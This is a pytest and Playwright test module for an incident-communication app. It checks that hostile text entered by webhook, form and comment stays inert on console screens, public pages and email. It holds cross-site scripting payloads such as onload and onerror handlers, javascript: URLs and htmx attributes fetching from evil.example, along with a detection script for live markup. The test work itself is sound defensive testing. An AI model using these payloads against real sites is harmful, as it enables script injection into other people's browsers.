"""A5 in a running installation: what comes in by hook, form and key is looked at everywhere, in Chromium.

Each screen is opened twice: as it is served, and with the policy that forbids scripts switched off, since
the policy is the second lock and must not be the only one.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Request, expect

from tests.journeys.catching import Mailbox, mail_server, part
from tests.journeys.desk import Desk, approve, first_draft, id_in, new_desk, submit
from tests.living import HOOK_TOKEN, Installation, installation, until
from tests.pages import hostile
from tests.pages.serving import chromium

pytestmark = pytest.mark.service("chromium")

#: What htmx would act on if an attribute got through, beside what browsers act on.
FOR_HTMX = (
    "<b hx-trigger=load hx-get=//evil.example/x>x</b>",
    "<b data-hx-on:htmx:load=alert(1) hx-on::load=alert(1)>x</b>",
)
ALL = (*hostile.MARKUP, *FOR_HTMX)
#: A form takes no NUL, which is as good as it gets; hooks take it as an escape in their JSON.
TYPED = "\n\n".join(text for text in ALL if "\x00" not in text)
#: As much as a list of regions takes on one line.
SHORT = "<svg/onload=alert(1)>[x](javascript:alert(1))<b hx-trigger=load hx-get=//evil.example/x>x</b>"
TITLE = "".join(ALL[place] for place in (0, 1, 11))
#: Whatever came to life. Scripts and pictures from our own folder, forms and fields are the console's own.
ALIVE = """() => [...document.querySelectorAll('*')].filter(e => {
  const own = /^\\/static\\//.test(e.getAttribute('src') || '');
  const urls = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc'];
  return (/^(script|img)$/i.test(e.tagName) && !own)
    || /^(iframe|object|embed|math|base|mglyph)$/i.test(e.tagName)
    || /refresh/i.test(e.getAttribute('http-equiv') || '')
    || /evil/.test(e.getAttribute('hx-get') || '')
    || [...e.attributes].some(a => /^(on|hx-on|data-hx|style$|srcdoc$)/i.test(a.name)
         || (urls.includes(a.name) && /^[\\s\\x00-\\x1f]*(javascript|data|vbscript):/i.test(a.value)));
}).map(e => e.outerHTML.slice(0, 200))"""


@dataclass
class Scene:
    """An installation full of hostile texts, and every address where they are shown."""

    here: Installation
    mailbox: Mailbox
    incident: str
    paths: list[str]


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as running:
        yield running


@pytest.fixture(scope="module")
def scene(tmp_path_factory: pytest.TempPathFactory, browser: Browser) -> Iterator[Scene]:
    """The whole line, walked by people who type nothing but attacks."""
    home = tmp_path_factory.mktemp("hostile")
    with ExitStack() as stack:
        mailbox = stack.enter_context(mail_server(Mailbox(folder=home / "mailbox")))
        settings = {
            "CLARION_DEMO": "yes",
            "CLARION_PAGE_NAME": ALL[0],
            "CLARION_CHANNEL_EMAIL_HOST": "127.0.0.1",
            "CLARION_CHANNEL_EMAIL_PORT": str(mailbox.port),
            "CLARION_CHANNEL_EMAIL_TLS": "none",
        }
        here = stack.enter_context(installation(home, **settings))
        here.python(ROWS)
        here.start_web()
        here.start_worker()
        hooks = [send_hook(here, json.dumps(alerts()).encode()), send_hook(here, TYPED.encode())]
        lead = new_desk(here, browser).sign_in("communications_lead")
        incident, draft = live_incident(lead)
        type_everything(lead, incident, draft)
        publish(here, browser, lead, draft)
        until(lambda: (home / "mailbox").is_dir() and any((home / "mailbox").iterdir()), what="the mail")
        yield Scene(here, mailbox, incident, addresses(lead, incident, draft, hooks))


ROWS = f"""
from clarion import pipeline
from clarion.actions import people, setup, subscriber
from clarion.rules.access import SYSTEM
pipeline.run(setup.add_component, name="Evil " + {ALL[10]!r}, description={ALL[0]!r}, actor=SYSTEM, now=now)
pipeline.run(people.create_person, email="mallory@example.com", name="Mallory " + {ALL[0]!r},
             password="x" * 20, roles=["legal"], actor=SYSTEM, now=now)
pipeline.run(subscriber.add_subscriber, channel="email", address="ann@example.org", actor=SYSTEM, now=now)
"""


def alerts() -> dict[str, object]:
    """What Alertmanager would pass on of a rule, a label or a link that somebody else could write."""
    each = [
        {
            "status": "firing",
            "labels": {"alertname": text, "severity": "critical", "instance": text},
            "annotations": {"summary": text, "description": TYPED},
            "startsAt": "2026-03-01T12:00:00Z",
            "endsAt": "0001-01-01T00:00:00Z",
            "generatorURL": ("javascript:alert(1)", "jav\tascript:alert(1)", "data:text/html,x")[place % 3],
            "fingerprint": f"f{place}",
        }
        for place, text in enumerate(ALL)
    ]
    return {
        "version": "4",
        "status": "firing",
        "groupKey": ALL[0],
        "truncatedAlerts": 0,
        "externalURL": "javascript:alert(1)",
        "alerts": each,
    }


def send_hook(here: Installation, body: bytes) -> str:
    answer = here.request("POST", "/hooks/alertmanager", body, {"Authorization": f"Bearer {HOOK_TOKEN}"})
    assert 202 == answer.status
    return str(answer.json()["id"])


def live_incident(lead: Desk) -> tuple[str, str]:
    """The incident that the hook opened, and its first draft."""
    links = lead.until("/console/", lambda page: page.locator("ul.cards h3 a"), "the incident")
    incident = str(links.first.get_attribute("href"))
    return incident, first_draft(lead, incident)


def type_everything(lead: Desk, incident: str, draft: str) -> None:
    """Title and text for both audiences, a comment, and the incident's own title."""
    page = lead.go(f"{draft}/edit")
    for audience in ("customers", "internal"):
        fields = page.locator(f"fieldset.audience-{audience}")
        fields.get_by_role("textbox", name="Title").fill(TITLE)
        with page.expect_response("**/drafts/preview"):
            fields.get_by_role("textbox", name="Text").fill(TYPED)
        expect(fields.locator(".preview")).to_contain_text("<svg/onload=alert(1)>")
    assert [] == page.evaluate(ALIVE), "the preview, while it is typed"
    lead.press("Save as version 2")
    expect(lead.said).to_contain_text("Version 2 is saved.")
    page.get_by_role("textbox", name="Comment").fill(TYPED)
    lead.press("Add the comment")
    expect(lead.section("Comments").get_by_role("article")).to_have_count(1)
    page = lead.go(f"{incident}/facts")
    for field in page.locator("form[action$='/facts'] textarea").all():
        field.evaluate("(field, text) => { field.value = text }", SHORT)
    lead.press("Record the facts")
    expect(lead.said).to_contain_text("There is no jurisdiction '<svg/onload=alert(1)>")
    assert [] == page.evaluate(ALIVE), "a refusal that repeats what was typed"
    page.get_by_label("Jurisdictions of affected readers").evaluate("field => { field.value = 'US' }")
    lead.press("Record the facts")
    expect(lead.said).to_contain_text("Version 1 of the facts is recorded")
    lead.go(incident).get_by_text("Change severity, category or title").click()
    page.get_by_label("Internal title").fill(TITLE)
    lead.press("Save the change")
    expect(page.get_by_role("heading", level=1)).to_have_text(TITLE)


def publish(here: Installation, browser: Browser, lead: Desk, draft: str) -> None:
    submit(lead, draft)
    for role in ("accuracy", "clarity"):
        reviewer = new_desk(here, browser).sign_in(role)
        reviewer.go(draft).get_by_label("Remark").fill(TYPED)
        approve(reviewer, draft)
        reviewer.page.context.close()
    lead.until(draft, lambda page: page.get_by_text(re.compile("^Published ")), "the publication")


def addresses(lead: Desk, incident: str, draft: str, hooks: list[str]) -> list[str]:
    """Every screen that shows a text from outside, and the public pages."""
    page = lead.go("/console/ledger")
    rows = page.locator("tbody tr").all()
    # One entry of each kind: they differ in nothing else that a screen could get wrong.
    entries = {row.locator("code").inner_text(): row.locator("a").get_attribute("href") or "" for row in rows}
    assert len(entries) > 8
    mails = [link.get_attribute("href") or "" for link in lead.go("/console/mailbox").locator("main a").all()]
    listed = "incidents?state=all drafts reviews subscribers deliveries components quarantine me"
    more = "quarantine?state=all ledger mailbox settings/policy settings/keys"
    screens = ["", *listed.split(), *more.split()]
    return [
        *(f"/console/{screen}" for screen in screens),
        *(f"/console/quarantine/{hook}" for hook in hooks),
        *(
            incident,
            f"{incident}/facts",
            draft,
            f"{draft}/edit",
            f"{draft}/versions/1",
            f"{draft}/versions/2",
        ),
        *entries.values(),
        *mails,
        *("/", f"/incidents/{id_in(incident)}/", "/history/", "/nothing<script>alert(1)</script>"),
    ]


def reached_out(page: Page, base: str) -> list[str]:
    """Collects every request that goes anywhere else."""
    found: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith((base, "data:image/")):
            found.append(request.url)

    page.on("request", note)
    page.on("popup", lambda shown: found.append(f"popup {shown.url}"))
    return found


def status_of(path: str, role: str) -> int:
    """What the server answers; a screen that was not there would show no attack either."""
    if path.endswith("/edit") and role == "administrator":
        return 403
    return 404 if "nothing" in path else 200


@pytest.mark.parametrize(
    ("role", "policy"),
    [("communications_lead", True), ("administrator", False)],
    ids=["as served", "without the policy"],
)
def test_no_text_comes_to_life_on_any_screen(role: str, policy: bool, scene: Scene, browser: Browser) -> None:
    """No dialog, no script, no request elsewhere, nothing for the policy to stop, no live attribute."""
    desk = new_desk(scene.here, browser, bypass_csp=not policy).sign_in(role)
    away = reached_out(desk.page, scene.here.base_url)
    people = ["/console/settings/people", "/console/settings/sources"] if role == "administrator" else []
    for path in (*scene.paths, *people):
        answer = desk.page.goto(scene.here.base_url + path)
        assert answer is not None
        assert status_of(path, role) == answer.status, path
        assert [] == desk.page.evaluate(ALIVE), path
        assert ([], []) == (desk.complaints, away), path
    desk.page.context.close()


def test_the_screens_do_show_those_texts(scene: Scene, browser: Browser) -> None:
    """As words, to the letter: an attack that is hidden is one that nobody notices."""
    desk = new_desk(scene.here, browser).sign_in("communications_lead")
    for path in (scene.incident, "/console/", f"/incidents/{id_in(scene.incident)}/"):
        expect(desk.go(path).locator("main")).to_contain_text("<svg/onload=alert(1)>")
    desk.page.context.close()


def test_no_text_comes_to_life_in_the_mail(scene: Scene, browser: Browser, tmp_path: Path) -> None:
    """The HTML part as a mail program shows it that forbids nothing; the text part as what it is."""
    [mail] = scene.mailbox.of("ann@example.org", "onload")
    page = new_desk(scene.here, browser, bypass_csp=True).page
    desk, away = Desk(scene.here, page), reached_out(page, "file:")
    shown = tmp_path / "mail.html"
    shown.write_text(part(mail, "html"))
    page.goto(shown.as_uri())
    expect(page.locator("body")).to_contain_text("<svg/onload=alert(1)>")
    assert [] == page.evaluate(ALIVE.replace("|style$", ""))
    for link in page.locator("a").all():
        assert re.match("https?://", link.get_attribute("href") or "")
    assert ([], []) == (desk.complaints, away)
    page.context.close()


def test_the_browser_would_have_noticed(scene: Scene, browser: Browser) -> None:
    desk = new_desk(scene.here, browser)
    away = reached_out(desk.page, scene.here.base_url)
    lively = (
        "<img src=http://127.0.0.1:1/x onerror=alert(1)><a href='\tjavascript:alert(1)'>x</a><b hx-on:x=y>"
    )
    desk.page.set_content(lively)
    until(lambda: desk.page.evaluate("1") and desk.complaints, what="the dialog")
    assert 3 == len(desk.page.evaluate(ALIVE))
    assert ["http://127.0.0.1:1/x"] == away
    desk.page.context.close()
